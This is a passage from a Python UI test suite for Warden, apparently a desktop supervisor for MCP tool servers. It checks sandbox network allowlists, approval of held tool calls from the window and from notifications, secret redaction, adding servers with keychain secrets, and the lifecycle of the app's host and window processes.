        assert '"/"' not in world.config.read_text(), "/ is not granted"
    finally:
        c.close()
        shutil.rmtree(outside, ignore_errors=True)


def test_the_sandbox_section_offers_to_allow_a_host_its_proxy_refused(world: World) -> None:
    """A sandboxed server whose network is a list (`sandbox_network = [...]`) asks its proxy for
    a destination not on it: the proxy refuses (403, before any connection), the server page
    shows the refusal with "Allow HOST:PORT", and the click adds it to the list in config.toml,
    keeping what was there. Loopback only, and nothing listens on the refused port."""
    if shutil.which("bwrap") is None:
        pytest.fail("`bwrap` is not on PATH: apt-get install bubblewrap", pytrace=False)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with world.config.open("a") as f:
        f.write('\n[servers.netbox]\nsandbox = "on"\nsandbox_network = ["127.0.0.1:9"]\n')
    c = Client(world.env, "netbox", world.config)
    try:
        said = c.call("echo", {"fetch": f"http://127.0.0.1:{port}/"})
        assert said["text"].startswith("HTTP/1.1 403"), said
        world.go("#/servers/netbox")
        world.wait("the list is shown", lambda: "127.0.0.1:9" in world.find("sandbox-hosts").text)
        world.wait("the refusal is offered", lambda: f"127.0.0.1:{port}" in world.find("sandbox-host-denied").text)
        world.click("allow-host")
        world.wait("added to the list", lambda: f'"127.0.0.1:{port}"' in world.config.read_text())
        assert '"127.0.0.1:9"' in world.config.read_text(), "what was listed stays"
        world.wait("no longer offered", lambda: not world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="allow-host"]'))
    finally:
        c.close()


def test_a_call_held_for_an_answer_is_allowed_from_the_window(world: World) -> None:
    """`tools_ask = ["noise"]`: a call to it is held by the bridge and shown on top of the
    window with its arguments; Allow lets it run and takes it off the list, and the client gets
    the tool's answer."""
    with world.config.open("a") as f:
        f.write('\n[servers.asked]\ntools_ask = ["noise"]\n')
    c = Client(world.env, "asked", world.config)
    try:
        # Not `call`: the answer comes only once the window has allowed it.
        c.proc.stdin.write(json.dumps({"tool": "noise", "arguments": {"lines": 0, "text": "held-7d2"}}) + "\n")
        c.proc.stdin.flush()
        world.go("#/")
        world.wait("the held call is shown", lambda: "held-7d2" in world.find("approval-noise").text)
        assert "asked" in world.find("approval-noise").text, "the server is named"
        world.shot("approvals", at="approvals")
        world.click("approval-allow")
        said = json.loads(c.readline())
        assert said.get("ok") is True, said
        world.wait("off the list", lambda: not world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="approvals"]'))
    finally:
        c.close()


def policy_row(w: World, tool: str) -> WebElement:
    return w.driver.find_element(By.CSS_SELECTOR, f'[data-testid="policy-row"][data-tool="{tool}"]')


def server_table(w: World, server: str) -> dict:
    import tomllib
    return tomllib.loads(w.config.read_text()).get("servers", {}).get(server, {})


def test_a_tools_policy_is_shown_with_why_and_changed_from_the_server_page(world: World) -> None:
    """The server page shows each tool's policy as the supervisor decides it (the fake
    server's `noise` has no annotations, so `@destructive` asks about it), moves one tool to
    deny and back to ask by its name (config.toml changes), and says why a move to allow does
    not take: the selector still decides."""
    with world.config.open("a") as f:
        f.write('\n[servers.policed]\ntools_ask = ["@destructive"]\n')
    assert "noise" in list_tools_through_a_bridge(world, "policed", []), "pinned"
    world.go("#/servers/policed")
    world.wait("noise is asked about", lambda: policy_row(world, "noise").get_attribute("data-policy") == "ask")
    assert "tools_ask has the annotation selector @destructive" in policy_row(world, "noise").text
    world.shot("server-policy", at="policy")

    world.click("policy-deny-noise")
    world.wait("noise is denied", lambda: policy_row(world, "noise").get_attribute("data-policy") == "deny")
    assert server_table(world, "policed")["tools_deny"] == ["noise"]
    assert "tools_deny names it" in policy_row(world, "noise").text

    world.click("policy-ask-noise")
    world.wait("noise is asked about again", lambda: policy_row(world, "noise").get_attribute("data-policy") == "ask")
    table = server_table(world, "policed")
    assert (table["tools_deny"], table["tools_ask"]) == ([], ["@destructive", "noise"]), table

    world.click("policy-allow-hang")
    world.wait("why hang stays asked", lambda: "hang is still ask" in world.find("policy-stuck").text)
    assert "@destructive" in world.find("policy-stuck").text
    assert policy_row(world, "hang").get_attribute("data-policy") == "ask"
    assert policy_row(world, "echo").get_attribute("data-policy") == "allow", "read-only: not asked about"


def test_an_always_answer_shows_on_the_server_page_and_ask_again_forgets_it(world: World) -> None:
    """`warden approvals allow ID --always` keeps the answer in the pin file; the server page
    shows the tool "Always allowed", and Ask again forgets it (`warden approvals forget`)."""
    with world.config.open("a") as f:
        f.write('\n[servers.remembered]\ntools_ask = ["noise"]\n')
    assert "noise" in list_tools_through_a_bridge(world, "remembered", []), "pinned"
    c = Client(world.env, "remembered", world.config)
    try:
        c.proc.stdin.write(json.dumps({"tool": "noise", "arguments": {"lines": 0, "text": "always-3c9"}}) + "\n")
        c.proc.stdin.flush()

        def held() -> list:
            out = subprocess.run([str(TARGET / "warden"), "approvals", "--json"], env=world.env, capture_output=True, text=True, timeout=20)
            return [a for a in json.loads(out.stdout) if a["server"] == "remembered"]

        [a] = world.wait("the call is held", held)
        subprocess.run([str(TARGET / "warden"), "approvals", "allow", a["id"], "--always"], env=world.env, check=True, capture_output=True, timeout=20)
        assert json.loads(c.readline()).get("ok") is True
    finally:
        c.close()
    pins = world.root / "state" / "pins" / "remembered.json"
    assert "noise" in json.loads(pins.read_text()).get("always", {})
    world.go("#/servers/remembered")
    world.wait("always allowed", lambda: "Always allowed" in policy_row(world, "noise").text)
    world.click("policy-forget-noise")
    world.wait("forgotten", lambda: "Always allowed" not in policy_row(world, "noise").text)
    assert "noise" not in json.loads(pins.read_text()).get("always", {})
    assert "noise" in world.find("policy-note").text


class Notifications:
    """The fake notification server (fake_notifications.py) on the app's session bus."""

    def __init__(self, w: World, actions: bool = True):
        self.w = w
        self.path = w.root / "notifications.jsonl"
        self.path.write_text("")
        flags = [] if actions else ["--no-actions"]
        self.proc = subprocess.Popen(
            ["/usr/bin/python3", str(Path(__file__).with_name("fake_notifications.py")), str(self.path), *flags],
            stdout=subprocess.PIPE, text=True, env={**w.env, "PYTHONPATH": ""},
        )
        ready, _, _ = select.select([self.proc.stdout], [], [], 20)
        assert ready and self.proc.stdout.readline().strip() == "READY", "the fake notification server did not start"

    def seen(self) -> list[dict]:
        return [json.loads(line) for line in self.path.read_text().splitlines() if line]

    def about(self, text: str) -> list[dict]:
        return [n for n in self.seen() if n["op"] == "notify" and text in n["summary"] + n["body"]]

    def invoke(self, nid: int, action: str) -> None:
        subprocess.run(
            ["gdbus", "call", "--session", "--dest", "org.freedesktop.Notifications",
             "--object-path", "/org/freedesktop/Notifications", "--method", "org.warden.Test.Invoke", str(nid), action],
            env=self.w.env, check=True, capture_output=True, timeout=20,
        )

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(timeout=10)


def test_a_held_call_is_notified_with_actions_and_allowed_from_the_notification(world: World) -> None:
    """Where the desktop shows actions, the tray notifies each held call once, with Allow,
    Always allow and Deny (its secret argument redacted); Allow pressed in the notification
    runs the call. A call answered in the window instead has its notification withdrawn."""
    notes = Notifications(world)
    with world.config.open("a") as f:
        f.write('\n[servers.noticed]\ntools_ask = ["noise"]\n')
    c = Client(world.env, "noticed", world.config)
    try:
        c.proc.stdin.write(json.dumps({"tool": "noise", "arguments": {"lines": 0, "text": "notice-5a1", "token": "sk-notice-secret"}}) + "\n")
        c.proc.stdin.flush()
        [n] = world.wait("the held call is notified", lambda: notes.about("notice-5a1"))
        assert n["summary"] == "noticed wants to run noise", n
        assert "sk-notice-secret" not in n["body"] and "[redacted]" in n["body"], n
        actions = dict(zip(n["actions"][::2], n["actions"][1::2]))
        assert actions == {"default": "Open Warden", "allow": "Allow", "always": "Always allow", "deny": "Deny"}, actions
        # Pressed until the app hears it (it starts listening just after the notification shows).
        said = None
        for _ in range(10):
            notes.invoke(n["id"], "allow")
            ready, _, _ = select.select([c.proc.stdout], [], [], 2)
            if ready:
                said = json.loads(c.proc.stdout.readline())
                break
        assert said is not None and said.get("ok") is True, said
        assert len(notes.about("notice-5a1")) == 1, "notified once"

        c.proc.stdin.write(json.dumps({"tool": "noise", "arguments": {"lines": 0, "text": "notice-6b2"}}) + "\n")
        c.proc.stdin.flush()
        [n] = world.wait("the second held call is notified", lambda: notes.about("notice-6b2"))
        world.go("#/")
        world.wait("it is listed", lambda: "notice-6b2" in world.find("approval-noise").text)
        world.click("approval-deny")
        said = json.loads(c.readline())
        assert said.get("ok") is False, said
        world.wait("its notification is withdrawn", lambda: {"op": "close", "id": n["id"]} in notes.seen())
        assert len(notes.about("notice-6b2")) == 1, "notified once"
    finally:
        c.close()
        notes.stop()


def test_a_server_added_in_the_window_runs_wrapped_with_its_secret_from_the_keychain(world: World) -> None:
    """The Add flow with a command: consent, the client, the sandbox (its network off by
    default; here allowed for the first start only), the exact change, the write, the probe
    (which only passes if the bridge put the keychain's secret into the server's environment),
    the network taken away after it, then off, on and Remove, each leaving the file as it was."""
    original = world.ide_file.read_bytes()
    fake = str(TARGET / "mcp-fake-server")
    world.go("#/manage")
    world.find("managed-search")
    world.click("add-server")
    world.click("source-command")
    type_into(world, "command-line", f"{fake} --require-env ADDED_TOKEN")
    type_into(world, "command-name", "added")
    type_into(world, "command-secrets", "ADDED_TOKEN=tok-added-77c1")
    world.click("command-next")
    assert world.find("consent-argv").text == f"{fake} --require-env ADDED_TOKEN"
    world.click("review-next")
    assert world.find("client-cursor").is_selected()
    assert world.find("add-sandbox").is_selected(), "the sandbox is offered, on, where it works"
    assert not world.find("add-sandbox-first-start").is_selected(), "no network for the first start unless asked"
    assert not world.find("add-sandbox-network").is_selected(), "no network kept unless asked"
    assert world.find("add-ask-destructive").is_selected(), "asking before destructive tools is proposed"
    world.click("add-sandbox-first-start")
    world.click("clients-next")
    diff = world.find("diff").text
    assert '"added"' in diff and "--secret-env" in diff and "ADDED_TOKEN" in diff, diff
    assert "tok-added-77c1" not in world.find("add-server-dialog").text, "the secret is never shown"
    assert world.ide_file.read_bytes() == original, "the preview writes nothing"
    world.shot("manage-add-changes")
    world.click("add-write")
    world.wait("the probe's result", lambda: world.find("add-probe").get_attribute("data-state") != "running")
    probe = world.find("add-probe")
    assert probe.get_attribute("data-state") == "ok", probe.text
    entry = json.loads(world.ide_file.read_text())["mcpServers"]["added"]
    assert entry["command"] == world.env["WARDEN_BIN"]
    assert entry["args"] == ["bridge", "--server", "added", "--secret-env", "ADDED_TOKEN", "--", fake, "--require-env", "ADDED_TOKEN"], entry
    assert "tok-added-77c1" not in world.ide_file.read_text()
    assert '[servers.added]\nsandbox = "on"' in world.config.read_text(), "it started sandboxed"
    assert 'tools_ask = ["@destructive"]' in world.config.read_text(), "its destructive tools wait for a yes"
    world.wait("the first start's network taken away", lambda: world.find("add-first-start-network").get_attribute("data-state") == "taken")
    assert 'sandbox_network = "none"' in world.config.read_text(), "the network is off after the first start"
    world.shot("manage-add-result")
    added = world.ide_file.read_bytes()
    world.click("add-close")
    # Cursor has no switch of its own: off takes the entry out, on puts the same bytes back.
    world.click("switch-added-cursor")
    world.wait("off: out of the file", lambda: b'"added"' not in world.ide_file.read_bytes())
    world.wait("shown off", lambda: not world.find("switch-added-cursor").is_selected())
    world.shot("manage")
    world.click("switch-added-cursor")
    world.wait("on: the same bytes back", lambda: world.ide_file.read_bytes() == added)
    world.click("remove-added")
    world.find("remove-preview")
    world.click("confirm-remove")
    world.wait("removed: the file as before", lambda: world.ide_file.read_bytes() == original)


def test_remove_in_the_window_applies_only_the_preview_it_showed(world: World) -> None:
    """The file changes while the removal's preview is open: confirming writes nothing and
    shows the new preview with why; confirming that one removes the entry."""
    original = world.ide_file.read_text()
    config = json.loads(original)
    config["mcpServers"]["gone"] = {"command": str(TARGET / "mcp-fake-server")}
    with_gone = json.dumps(config, indent=2) + "\n"
    world.ide_file.write_text(with_gone)
    world.go("#/manage")
    world.click("remove-gone")
    world.find("remove-preview")
    changed = with_gone.replace('"mcpServers"', '"mcpServers" ', 1)
    world.ide_file.write_text(changed)
    world.click("confirm-remove")
    assert "[W-CLIENT-CHANGED]" in world.find("remove-stale").text
    assert world.ide_file.read_text() == changed, "nothing written"
    world.shot("manage-remove-stale")
    world.click("confirm-remove")
    world.wait("removed after the new preview", lambda: '"gone"' not in world.ide_file.read_text())
    world.ide_file.write_text(original)


def test_the_registry_is_searched_and_its_consent_screen_shows_the_pinned_command(world: World) -> None:
    """Through the warden-registry sidecar against a registry on 127.0.0.1; a server that asks
    for values is planned again with them. Nothing is written."""
    original = world.ide_file.read_bytes()
    world.go("#/manage")
    world.click("add-server")
    type_into(world, "registry-term", "notes")
    world.click("registry-search")
    world.find("found-io.example/notes-server")
    world.click("choose-io.example/notes-server")
    world.wait("the consent screen", lambda: "notes-server" in world.find("consent-name").text)
    assert world.find("consent-argv").text == "npx -y @example/notes-mcp@0.4.2"
    assert "@example/notes-mcp@0.4.2" in world.find("consent-package").text
    assert world.find("entry-name").get_attribute("value") == "notes-server"
    world.shot("manage-consent")
    world.click("add-close")
    doc = json.loads((REGISTRY_FIXTURES / "calendar-sync.server.json").read_text())
    world.click("add-server")
    type_into(world, "registry-term", doc["name"].split("/")[-1])
    world.click("registry-search")
    world.click(f"choose-{doc['name']}")
    inputs = world.find("consent-inputs")
    fields = inputs.find_elements(By.CSS_SELECTOR, "input, select")
    assert fields, inputs.text
    for f in fields:
        if f.tag_name == "input":
            f.send_keys("value-1")
    world.click("apply-values")
    world.wait("planned with the values", lambda: "value-1" in world.find("consent-argv").text)
    world.click("add-close")
    assert world.ide_file.read_bytes() == original


def test_a_server_that_cannot_start_is_down_in_the_window_with_its_code(world: World) -> None:
    """Near the end: a server that stays down keeps the tray red."""
    initialize = {
        "jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "ui-test", "version": "1"}},
    }
    bridge = subprocess.run(
        [str(TARGET / "warden"), "bridge", "--server", "ghost", "--config", str(world.config), "--", "warden-ui-no-such-server"],
        input=json.dumps(initialize) + "\n", env=world.env, capture_output=True, text=True, timeout=30,
    )
    assert bridge.returncode == 1, bridge
    assert json.loads(bridge.stdout)["error"]["data"]["code"] == "W-SPAWN-NOT-FOUND", bridge.stdout
    world.go("#/servers")
    world.wait("ghost down", lambda: badge(world, "ghost") == "down")
    world.go("#/servers/ghost")
    world.wait("its code", lambda: world.find("last-error-code").text == "W-SPAWN-NOT-FOUND")
    reason = world.find("health-reason").text
    assert "warden-ui-no-such-server" in reason and "PATH" in reason, reason
    world.shot("server-spawn-failed")


def proc_state(pid: int) -> str:
    """The state letter of /proc/PID/stat and the command, or "gone"."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
        cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return "gone"
    return f"{stat.rsplit(')', 1)[1].split()[0]} {cmd}"


def exe_name(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/exe").resolve().name
    except OSError:
        return ""


def cmdline(pid: int) -> list[str]:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")[:-1]
    except OSError:
        return []


def parent(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])


def hosts(state_dir: Path) -> list[int]:
    """The running `warden-app` hosts of this test (the role without `--window`)."""
    return [p for p in ours(state_dir) if exe_name(p) == "warden-app" and running(p) and "--window" not in cmdline(p)]


def webkit(state_dir: Path) -> list[int]:
    """The running WebKit web and network processes of this test (a window's)."""
    return [p for p in ours(state_dir) if exe_name(p) in ("WebKitWebProcess", "WebKitNetworkProcess") and running(p)]


def windows(state_dir: Path) -> list[int]:
    """The running window processes of this test (`warden-app --window`)."""
    return [p for p in ours(state_dir) if exe_name(p) == "warden-app" and running(p) and "--window" in cmdline(p)]


def running(pid: int) -> bool:
    """Whether PID runs: a zombie (ended, not yet reaped by its parent) does not."""
    return proc_state(pid).split(" ", 1)[0] not in ("gone", "Z", "X")


def x_window(d, title: str):
    """The X window titled TITLE (the app's top-level window)."""
    def find(w):
        if w.get_wm_name() == title:
            return w
        for child in w.query_tree().children:
            found = find(child)
            if found:
                return found
        return None

    win = find(d.screen().root)
    assert win is not None, f"no X window titled {title!r}"
    return win


def close_window_like_a_window_manager(title: str) -> None:
    """Sends WM_DELETE_WINDOW, as a window manager's close button does (WebDriver's own close
    ends the whole browser process, which is not what a user's click does), and waits for the
    window's DestroyNotify on the same X connection (closing the connection right after
    sending lost the message now and then)."""
    import select

    from Xlib import X, display, protocol

    d = display.Display()
    try:
        win = x_window(d, title)
        win.change_attributes(event_mask=X.StructureNotifyMask)
        protocols, delete = d.intern_atom("WM_PROTOCOLS"), d.intern_atom("WM_DELETE_WINDOW")
        win.send_event(protocol.event.ClientMessage(window=win, client_type=protocols, data=(32, [delete, X.CurrentTime, 0, 0, 0])))
        d.flush()
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            while d.pending_events():
                if d.next_event().type == X.DestroyNotify:
                    return
            select.select([d.fileno()], [], [], max(0.0, deadline - time.monotonic()))
        raise AssertionError(f"the window {title!r} is still open 30 s after a click on close")
    finally:
        d.close()


def test_a_host_that_dies_is_started_again_by_the_open_window(world: World) -> None:
    """SIGKILL, as a crash: the socket stays behind (a Quit removes it, and the window closes
    with the host), so the open window starts a new host (`warden-app --hidden`) and follows it."""
    [window] = windows(world.root / "state")
    [dead] = hosts(world.root / "state")
    os.kill(dead, signal.SIGKILL)

    def new_host_answers() -> bool:
        if not any(p != dead for p in hosts(world.root / "state")):
            return False
        out = subprocess.run([str(TARGET / "warden"), "status", "--json"], env=world.env,
                             capture_output=True, text=True, timeout=20)
        return out.returncode == 0 and any(s["name"] == "demo" for s in json.loads(out.stdout)["servers"])

    world.wait("a new host whose supervisor knows demo", new_host_answers)
    assert running(window), "the window stays open on the new host"


def test_a_host_that_keeps_dying_is_given_up_with_a_reason(world: World) -> None:
    """The window starts a dying host again a few times only (3 since its last minute of
    events); after that it stays open and says why, instead of vanishing. Each host is killed
    once its supervisor answers, as a host that dies in use. A host started by hand (as at
    login) then serves again, for the last tests."""
    [window] = windows(world.root / "state")
    banner = lambda: world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="supervisor-error"]')
    answers = lambda: subprocess.run([str(TARGET / "warden"), "status", "--json"], env=world.env,
                                     capture_output=True, timeout=20).returncode == 0
    killed: set[int] = set()
    for _ in range(5):
        alive = hosts(world.root / "state")
        if banner() or not alive:
            break
        for h in alive:
            os.kill(h, signal.SIGKILL)
        killed.update(alive)
        world.wait("a new host that answers, or the window giving up", lambda: banner() or (any(
            p not in killed for p in hosts(world.root / "state")) and answers()))
    text = world.find("supervisor-error").text
    assert "without quitting" in text and running(window), (text, proc_state(window))
    subprocess.Popen([str(TARGET / "warden-app"), "--hidden"], env=world.env, stdin=subprocess.DEVNULL)
    world.wait("a host started by hand answers", answers)


def test_closing_the_window_leaves_the_host_at_rest_without_webkit(world: World) -> None:
    """The WebDriver session has no window afterwards. The window's process and its WebKit
    processes end; the host and its supervisor stay, with no WebKit process: Warden at rest."""
    mine = ours(world.root / "state")
    window, host = windows(world.root / "state"), hosts(world.root / "state")
    assert (len(window), len(host)) == (1, 1), {p: proc_state(p) for p in mine}
    helpers = webkit(world.root / "state")
    assert helpers, "the open window has WebKit processes"
    close_window_like_a_window_manager(TITLE)
    deadline = time.monotonic() + 30
    while any(running(p) for p in [*helpers, *window]) and time.monotonic() < deadline:
        time.sleep(0.2)
    left = {p: proc_state(p) for p in [*helpers, *window] if running(p)}
    assert not left, f"the window's processes end with it: {left}"
    status = world.status()
    assert any(s["name"] == "demo" for s in status["servers"]), "the host's supervisor still answers"
    at_rest = (hosts(world.root / "state"), windows(world.root / "state"), webkit(world.root / "state"))
    assert at_rest == (host, [], []), "at rest, the host alone runs"


def test_where_the_desktop_shows_no_actions_a_held_call_opens_the_window(world: World) -> None:
    """At rest (the window closed), with a notification server that shows no actions: a held
    call's notification is plain and says where to answer, and the host opens the window,
    which lists the call on top. Left at rest again, for the tests after it."""
    state = world.root / "state"
    if windows(state):
        close_window_like_a_window_manager(TITLE)
        world.wait("at rest", lambda: not windows(state) and not webkit(state))
    [host] = hosts(state)
    notes = Notifications(world, actions=False)
    with world.config.open("a") as f:
        f.write('\n[servers.plain]\ntools_ask = ["noise"]\n')
    c = Client(world.env, "plain", world.config)
    try:
        c.proc.stdin.write(json.dumps({"tool": "noise", "arguments": {"lines": 0, "text": "plain-8e4"}}) + "\n")
        c.proc.stdin.flush()
        [n] = world.wait("the held call is notified", lambda: notes.about("plain-8e4"))
        assert n["actions"] == [] and "Answer in Warden's window." in n["body"], n
        world.wait("the host opened the window", lambda: len(windows(state)) == 1)
        assert parent(windows(state)[0]) == host
        held = subprocess.run([str(TARGET / "warden"), "approvals", "--json"], env=world.env, capture_output=True, text=True, timeout=20)
        [a] = [a for a in json.loads(held.stdout) if a["server"] == "plain"]
        subprocess.run([str(TARGET / "warden"), "approvals", "deny", a["id"]], env=world.env, check=True, capture_output=True, timeout=20)
        assert json.loads(c.readline()).get("ok") is False
    finally:
        c.close()
        notes.stop()
        for pid in windows(state):
            os.kill(pid, signal.SIGKILL)
        deadline = time.monotonic() + 30
        while (windows(state) or webkit(state)) and time.monotonic() < deadline:
            time.sleep(0.2)


def test_a_second_start_opens_the_window_and_a_killed_window_leaves_the_host_serving(world: World) -> None:
    """`warden-app` again (the desktop entry) while the host runs: it hands over to the host
    (tauri-plugin-single-instance) and ends; the host starts a window. A window killed (a web
    view crash) takes nothing else down; the host quits on SIGTERM (as at logout), removing
    its socket."""
    [host] = hosts(world.root / "state")
    second = subprocess.run([str(TARGET / "warden-app")], env=world.env, capture_output=True, timeout=30)
    assert second.returncode == 0, second
    world.wait("the host started a window", lambda: len(windows(world.root / "state")) == 1)
    [window] = windows(world.root / "state")
    assert parent(window) == host
    os.kill(window, signal.SIGKILL)
    deadline = time.monotonic() + 30
    while (windows(world.root / "state") or webkit(world.root / "state")) and time.monotonic() < deadline:
        time.sleep(0.2)
    at_rest = (hosts(world.root / "state"), windows(world.root / "state"), webkit(world.root / "state"))
    assert at_rest == ([host], [], []), "no window, no WebKit"
    assert any(s["name"] == "demo" for s in world.status()["servers"]), "the supervisor still answers"
    os.kill(host, signal.SIGTERM)
    deadline = time.monotonic() + 15
    while running(host) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not running(host), proc_state(host)
    assert not Path(world.env["WARDEN_SOCKET"]).exists(), "the host's supervisor removed its socket"
